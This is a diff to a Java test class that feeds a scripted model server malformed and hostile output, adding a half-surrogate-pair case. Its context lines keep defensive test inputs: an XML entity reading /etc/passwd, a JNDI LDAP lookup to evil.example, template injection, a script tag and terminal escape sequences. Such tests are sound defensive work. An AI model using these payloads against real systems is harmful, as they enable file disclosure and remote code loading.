@@ -44,6 +44,9 @@ class HostileSessionTest {
           + " \"file:///etc/passwd\">]> &b; =1+1 | # head\n\n**bold** \u001b[31mred\u001b]0;t\u0007"
           + " \u009b31m \u202e \u0000 \ud83e\udd99 {{7*7}} ${jndi:ldap://evil.example}";
 
+  /** Half of a surrogate pair, as a tokenizer that cuts characters sends it. */
+  private static final String HALF_A_PAIR = "{\"response\":\"\\ud83e\",\"done\":false}";
+
   @RegisterExtension private final BenchmarkLaunch launch = new BenchmarkLaunch();
 
   @TempDir private Path folder;
@@ -51,7 +54,13 @@ class HostileSessionTest {
   private final ScriptedServer server =
       ScriptedServer.start(MODELS.stream().map(Model::named).toArray(Model[]::new))
           .version("1.0-scripted<script>document.title='run'</script>\u001b[31m")
-          .always(Script.answer().after(Duration.ofMillis(20)).text(ANSWER).text("end").done());
+          .always(
+              Script.answer()
+                  .after(Duration.ofMillis(20))
+                  .text(ANSWER)
+                  .line(HALF_A_PAIR)
+                  .text("end")
+                  .done());
 
   private Path results = Path.of("results");
 
@@ -99,7 +108,7 @@ class HostileSessionTest {
     assertThat(stored.cells().stream().flatMap(cell -> cell.runs().stream()))
         .flatExtracting(block -> block.run().agents())
         .flatExtracting(agent -> agent.calls())
-        .allSatisfy(call -> assertThat(call.answer()).isEqualTo(ANSWER + "end"));
+        .allSatisfy(call -> assertThat(call.answer()).isEqualTo(ANSWER + "\ud83e" + "end"));
   }
 
   private void theConsoleIsNotSteered() {
